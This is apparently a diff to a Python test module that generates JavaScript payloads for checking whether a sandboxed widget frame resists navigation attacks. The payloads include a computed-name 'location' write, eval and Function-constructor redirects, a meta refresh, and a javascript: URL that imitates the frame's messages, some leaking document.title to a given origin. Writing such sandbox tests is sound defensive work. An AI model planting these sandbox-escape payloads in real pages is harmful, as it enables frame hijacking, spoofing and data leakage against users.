@@ -11,11 +11,11 @@ from __future__ import annotations
 import json
 
 #: Attacks that navigate the page frame itself (the frame's real `location`,
-#: which the rewrite of page scripts does not see when it is reached by a
-#: computed name or from eval): the shell refuses the navigation and the widget
-#: replaces the frame (saying so). (Chromium does not follow a javascript: URL
-#: there at all; were it to, the frame would be replaced too.)
-NAVIGATIONS = ("script_refresh", "real_location", "eval_location")
+#: which the rewrite of page scripts, and of code they eval, does not see when
+#: it is reached by a computed name): the shell refuses the navigation and the
+#: widget replaces the frame (saying so). (Chromium does not follow a javascript:
+#: URL there at all; were it to, the frame would be replaced too.)
+NAVIGATIONS = ("script_refresh", "real_location", "eval_real_location")
 
 #: The frame's own Location object, out of the rewrite's sight.
 REAL_LOCATION = 'window["loc" + "ation"]'
@@ -50,11 +50,13 @@ def attacks(origin: str) -> dict[str, str]:
             f"m.content = {q('0;url=' + origin + '/script-refresh')}; document.head.append(m);"
         ),
         "real_location": f"<script>{REAL_LOCATION} = {q(origin + '/real-location?')} + document.title</script>",
-        "eval_location": f"<script>eval({q('document.location.href = ' + q(origin + '/eval-location'))})</script>",
+        "eval_real_location": f"<script>eval({q(REAL_LOCATION + ' = ' + q(origin + '/eval-real-location'))})</script>",
         # The `location` page scripts see is the widget's: another host waits for the user.
         "bare_location": f"<script>location.href = {q(origin + '/bare-location')}</script>",
         "window_location": f"<script>window.location = {q(origin + '/window-location')}</script>",
         "document_location": f"<script>document.location.href = {q(origin + '/document-location')}</script>",
+        "eval_location": f"<script>eval({q('document.location.href = ' + q(origin + '/eval-location'))})</script>",
+        "function_location": f"<script>Function({q('location = ' + q(origin + '/function-location'))})()</script>",
         # A javascript: URL replaces the frame's document with one that imitates the frame's messages.
         "javascript_url": script(f"{REAL_LOCATION} = {q('javascript:' + q(script(IMITATE)))}"),
         "links": (
